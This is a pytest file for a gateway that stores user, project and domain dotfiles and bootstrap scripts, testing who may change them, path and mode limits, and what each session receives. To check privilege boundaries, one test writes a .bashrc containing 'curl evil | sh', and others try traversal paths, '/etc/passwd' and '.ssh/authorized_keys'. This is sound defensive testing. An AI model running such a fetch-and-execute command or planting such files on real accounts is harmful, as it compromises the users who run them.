"""Dotfiles of a user, a project and a domain, and the stored bootstrap script: who may read and change
them, the rules on paths, modes and sizes, and what a new session gets."""

from __future__ import annotations

import pytest

from bridge.domain import dotfiles as rules
from bridge.services import user_config


async def test_a_users_dotfiles_from_create_to_delete(gw):
    r = await gw.request("POST", "/user-config/dotfiles", "alice",
                         json={"path": ".vimrc", "data": "set nu\n", "permission": "644"})
    assert r.status_code == 200 and r.json() == {}
    again = await gw.request("POST", "/user-config/dotfiles", "alice", json={"path": "~/.vimrc", "data": "x"})
    assert again.status_code == 400 and again.json()["type"].endswith("/dotfile-already-exists")
    listed = (await gw.request("GET", "/user-config/dotfiles", "alice")).json()
    assert listed == [{"path": ".vimrc", "permission": "644", "data": "set nu\n"}]
    r = await gw.request("PATCH", "/user-config/dotfiles", "alice",
                         json={"path": ".vimrc", "data": "set nonu\n", "permission": "600"})
    assert r.status_code == 200
    one = (await gw.request("GET", "/user-config/dotfiles?path=.vimrc", "alice")).json()
    assert one == {"path": ".vimrc", "permission": "600", "data": "set nonu\n"}
    assert (await gw.request("GET", "/user-config/dotfiles", "bob")).json() == []   # bob's own: none
    r = await gw.request("DELETE", "/user-config/dotfiles", "alice", json={"path": ".vimrc"})
    assert r.json() == {"success": True}
    r = await gw.request("DELETE", "/user-config/dotfiles", "alice", json={"path": ".vimrc"})
    assert r.status_code == 404 and r.json()["type"].endswith("/dotfile-not-found")


@pytest.mark.parametrize("path", ["/etc/passwd", "../x", "a/../../x", ".bridge/runner.py", "id_container",
                                  ".ssh/authorized_keys", "", "/home/work"])
async def test_a_dotfile_stays_in_the_home_and_off_what_the_gateway_lays_out(gw, path):
    r = await gw.request("POST", "/user-config/dotfiles", "alice", json={"path": path, "data": "x"})
    assert r.status_code == 400 and "path" in r.json()["msg"]


async def test_modes_and_sizes_are_limited(gw):
    r = await gw.request("POST", "/user-config/dotfiles", "alice", json={"path": "a", "data": "x",
                                                                         "permission": "4755"})
    assert r.status_code == 400 and "permission" in r.json()["msg"]
    r = await gw.request("POST", "/user-config/dotfiles", "alice",
                         json={"path": "big", "data": "x" * (rules.MAX_TOTAL_BYTES + 1)})
    assert r.status_code == 400 and "KiB" in r.json()["msg"]


async def test_project_and_domain_dotfiles_are_read_by_members_and_changed_by_admins(gw):
    body = {"group": "physics", "path": ".project", "data": "p\n"}
    r = await gw.request("POST", "/group-config/dotfiles", "bob", json=body)
    assert r.status_code == 403                                       # a member, not an admin
    assert (await gw.request("POST", "/group-config/dotfiles", "ladmin", json=body)).status_code == 200
    assert (await gw.request("GET", "/group-config/dotfiles?group=physics", "bob")).json()[0]["path"] == ".project"
    r = await gw.request("GET", "/group-config/dotfiles?group=physics", "alice")
    assert r.status_code == 404                                       # not her project
    r = await gw.request("POST", "/domain-config/dotfiles", "dadmin", json={"domain": "default", "path": "x",
                                                                           "data": "x"})
    assert r.status_code == 404                                       # another domain's admin
    r = await gw.request("POST", "/domain-config/dotfiles", "ladmin", json={"domain": "default", "path": ".project",
                                                                           "data": "from the domain\n"})
    assert r.status_code == 200
    r = await gw.request("POST", "/user-config/dotfiles", "bob", json={"path": ".bashrc", "data": "bob\n"})
    async with gw.app.state.db.unit_of_work() as s:
        from bridge.services import accounts

        physics = await accounts.get_group(s, "physics")
        got = await user_config.for_session(s, gw.keys["bob"].access, physics.id, "default")
    assert got == [{"path": ".bashrc", "perm": "644", "data": "bob\n"},
                   {"path": ".project", "perm": "644", "data": "p\n"}]   # the project's wins over the domain's
    # an admin's files never reach an account at or above theirs: they are code its user runs (.bashrc)
    r = await gw.request("POST", "/group-config/dotfiles", "ladmin", json={"group": "default", "path": ".bashrc",
                                                                          "data": "curl evil | sh\n"})
    assert r.status_code == 200
    async with gw.app.state.db.unit_of_work() as s:
        default = await accounts.get_group(s, "default")
        for_root = await user_config.for_session(s, gw.keys["root"].access, default.id, "default")
        for_admin = await user_config.for_session(s, gw.keys["ladmin"].access, default.id, "default")
        for_alice = await user_config.for_session(s, gw.keys["alice"].access, default.id, "default")
    assert ".bashrc" not in [e["path"] for e in for_root]        # a superadmin
    assert ".bashrc" in [e["path"] for e in for_admin]           # the writer's own sessions
    assert [e["path"] for e in for_alice] == [".bashrc", ".project"]


async def test_the_bootstrap_script_is_kept_per_keypair_and_admins_act_only_below_them(gw):
    r = await gw.request("POST", "/user-config/bootstrap-script", "alice", json={"script": "echo hi\n"})
    assert r.status_code == 200
    assert (await gw.request("GET", "/user-config/bootstrap-script", "alice")).json() == "echo hi\n"
    alice = gw.keys["alice"].access
    assert (await gw.request("GET", f"/user-config/bootstrap-script?owner_access_key={alice}",
                             "ladmin")).json() == "echo hi\n"
    root = gw.keys["root"].access
    r = await gw.request("GET", f"/user-config/bootstrap-script?owner_access_key={root}", "ladmin")
    assert r.status_code == 403
    r = await gw.gql("alice", "query { keypair { bootstrap_script dotfiles } }")
    assert r["data"]["keypair"]["bootstrap_script"] == "echo hi\n"


@pytest.mark.parametrize("path,body", [
    ("/user-config/dotfiles", {"owner_access_key": ["a", "b"], "path": "x", "data": "y"}),
    ("/group-config/dotfiles", {"group": {"x": 1}, "path": "x", "data": "y"}),
    ("/domain-config/dotfiles", {"domain": ["a"], "path": "x", "data": "y"}),
    ("/user-config/bootstrap-script", {"owner_access_key": {"x": 1}, "script": "y"}),
])
async def test_names_that_are_not_text_are_refused(gw, path, body):
    r = await gw.request("POST", path, "ladmin", json=body)
    assert r.status_code == 400 and r.json()["title"], r.text


def test_a_dotfile_that_cannot_be_written_is_left_out(tmp_path):
    import json
    import subprocess
    import sys

    (tmp_path / "data").mkdir()   # a folder's mount point, where a dotfile named "data" cannot go
    entries = [{"path": "data", "perm": "644", "data": "x"}, {"path": ".vimrc", "perm": "600", "data": "set nu\n"}]
    done = subprocess.run([sys.executable, "-c", user_config.WRITE_DOTFILES, str(tmp_path)], input=json.dumps(entries),
                          capture_output=True, text=True)
    assert done.returncode == 0 and "dotfile data left out" in done.stderr
    vimrc = tmp_path / ".vimrc"
    assert vimrc.read_text() == "set nu\n" and oct(vimrc.stat().st_mode & 0o777) == "0o600"
